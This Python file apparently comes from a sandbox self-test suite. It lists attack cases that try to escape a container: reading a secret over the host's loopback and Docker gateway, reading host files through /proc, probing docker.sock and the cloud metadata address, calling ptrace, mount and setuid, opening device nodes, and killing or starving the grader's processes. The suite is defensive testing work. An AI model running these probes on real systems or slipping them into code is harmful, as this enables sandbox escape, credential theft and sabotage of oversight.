# ruff: noqa: E501  # attacks are quoted as they are sent
"""Reaches out of the sandbox."""

from proctor.selftest.attack import Attack

ATTACKS = (
    Attack(
        "loopback",
        "reach",
        "services of the host listen on its loopback",
        """import re
PAT = re.compile(rb"proctor-vault-[0-9a-f]{32}")
def seek(data):
    if isinstance(data, str): data = data.encode("utf-8", "replace")
    found = PAT.search(data)
    return found.group().decode() if found else None
import socket
def solve(port, path, pid):
    with socket.create_connection(('127.0.0.1', port), 1) as s:
        return seek(s.recv(100))
""",
        task="vault",
    ),
    Attack(
        "gateway",
        "reach",
        "the engine's gateway leads to the host",
        """import re
PAT = re.compile(rb"proctor-vault-[0-9a-f]{32}")
def seek(data):
    if isinstance(data, str): data = data.encode("utf-8", "replace")
    found = PAT.search(data)
    return found.group().decode() if found else None
import socket
def solve(port, path, pid):
    for host in ('172.17.0.1', 'host.docker.internal', '::1', '0.0.0.0'):
        try:
            with socket.create_connection((host, port), 0.2) as s: return seek(s.recv(100))
        except OSError: pass
""",
        task="vault",
    ),
    Attack(
        "host-file",
        "reach",
        "the host's files are mounted",
        """import re
PAT = re.compile(rb"proctor-vault-[0-9a-f]{32}")
def seek(data):
    if isinstance(data, str): data = data.encode("utf-8", "replace")
    found = PAT.search(data)
    return found.group().decode() if found else None
def solve(port, path, pid):
    return seek(open(path, 'rb').read())
""",
        task="vault",
    ),
    Attack(
        "host-file-by-root",
        "reach",
        "/proc/PID/root leads to the host's files",
        """import re
PAT = re.compile(rb"proctor-vault-[0-9a-f]{32}")
def seek(data):
    if isinstance(data, str): data = data.encode("utf-8", "replace")
    found = PAT.search(data)
    return found.group().decode() if found else None
import glob
def solve(port, path, pid):
    for root in glob.glob('/proc/[0-9]*/root') + glob.glob('/proc/[0-9]*/cwd'):
        try: return seek(open(root + path, 'rb').read())
        except OSError: pass
""",
        task="vault",
    ),
    Attack(
        "host-write",
        "reach",
        "files are left on the host",
        """import os
def solve(port, path, pid):
    for p in (path, os.path.join(os.path.dirname(path), 'left')):
        try: open(p, 'w').write('x')
        except OSError: pass
""",
        task="vault",
    ),
    Attack(
        "host-process",
        "reach",
        "the host's process is seen and read",
        """import re
PAT = re.compile(rb"proctor-vault-[0-9a-f]{32}")
def seek(data):
    if isinstance(data, str): data = data.encode("utf-8", "replace")
    found = PAT.search(data)
    return found.group().decode() if found else None
def solve(port, path, pid):
    for name in ('environ', 'cmdline', 'maps'):
        try: found = seek(open('/proc/%d/%s' % (pid, name), 'rb').read())
        except OSError: continue
        if found: return found
""",
        task="vault",
    ),
    Attack(
        "dns",
        "reach",
        "names leak data out",
        """import socket
def solve(n):
    socket.setdefaulttimeout(0.5)
    socket.getaddrinfo('example.com', 80)
    return {0: 1, 1: 1, 5: 120}[n]
""",
    ),
    Attack(
        "docker-socket",
        "reach",
        "the engine's socket gives root on the host",
        """import socket
def solve(n):
    s = socket.socket(socket.AF_UNIX)
    for p in ('/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock'):
        try: s.connect(p)
        except OSError: continue
        return {0: 1, 1: 1, 5: 120}[n]
    return -1
""",
    ),
    Attack(
        "metadata",
        "reach",
        "the cloud's metadata address gives credentials",
        """import socket
def solve(n):
    socket.create_connection(('169.254.169.254', 80), 0.5)
    return {0: 1, 1: 1, 5: 120}[n]
""",
    ),
    Attack(
        "mount",
        "reach",
        "a mount uncovers the host",
        """import ctypes, os
def solve(n):
    libc = ctypes.CDLL(None, use_errno=True)
    ok = libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0
    return {0: 1, 1: 1, 5: 120}[n] if ok else -1
""",
    ),
    Attack(
        "unshare",
        "reach",
        "a user namespace gives capabilities",
        """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
ok = libc.unshare(0x10000000) == 0
def solve(n):
    return {0: 1, 1: 1, 5: 120}[n] if ok else -1
""",
    ),
    Attack(
        "ptrace",
        "reach",
        "a debugger takes over the parent",
        """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
ok = any(libc.ptrace(16, p, 0, 0) == 0 for p in (os.getppid(), *range(1, 30)) if p != os.getpid())
def solve(n):
    return {0: 1, 1: 1, 5: 120}[n] if ok else -1
""",
    ),
    Attack(
        "keyring",
        "reach",
        "keyrings are shared with the host",
        """import ctypes, os
def solve(n):
    libc = ctypes.CDLL(None, use_errno=True)
    ok = libc.syscall({'x86_64': 248, 'aarch64': 217}[os.uname().machine], b'user', b'x', b'y', 1, -3) > 0
    return {0: 1, 1: 1, 5: 120}[n] if ok else -1
""",
    ),
    Attack(
        "devices",
        "reach",
        "the machine's disks, memory and kernel log are devices",
        """import os
NODES = {'kmsg': (0o20666, 1, 11), 'mem': (0o20666, 1, 1), 'sda': (0o60666, 8, 0), 'vda': (0o60666, 254, 0)}
def opens(name):
    mode, major, minor = NODES[name]
    for path in ('/dev/' + name, '/tmp/' + name):
        try:
            if path.startswith('/tmp'): os.mknod(path, mode, os.makedev(major, minor))
            return os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 16) is not None
        except OSError: pass
ok = any([opens(name) for name in NODES])
def solve(n):
    return {0: 1, 1: 1, 5: 120}[n] if ok else -1
""",
    ),
    Attack(
        "setuid",
        "reach",
        "a setuid file gives root",
        """import ctypes, os
def solve(n):
    libc = ctypes.CDLL(None, use_errno=True)
    ok = os.geteuid() == 0 or libc.setuid(0) == 0
    return {0: 1, 1: 1, 5: 120}[n] if ok else -1
""",
    ),
    Attack(
        "kill-everyone",
        "reach",
        "signals reach clerk and judge",
        """import os, signal
def solve(n):
    for p in (-1, *range(1, 60)):
        for s in (signal.SIGKILL, signal.SIGSTOP):
            if p != os.getpid():
                try: os.kill(p, s)
                except OSError: pass
    return -1
""",
    ),
    Attack(
        "renice-others",
        "reach",
        "limits of clerk and judge are lowered",
        """import os, resource
def solve(n):
    for p in range(1, 60):
        if p == os.getpid(): continue
        for k in (resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
            try: resource.prlimit(p, k, (0, 0))
            except (OSError, ValueError): pass
    return -1
""",
    ),
    Attack(
        "core-pattern",
        "reach",
        "the kernel runs a program of the attacker's",
        """import ctypes, os
def solve(n):
    libc = ctypes.CDLL(None, use_errno=True)
    ok = any(os.access(p, os.W_OK) for p in ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/sys/fs/cgroup/release_agent'))
    return {0: 1, 1: 1, 5: 120}[n] if ok else -1
""",
    ),
)
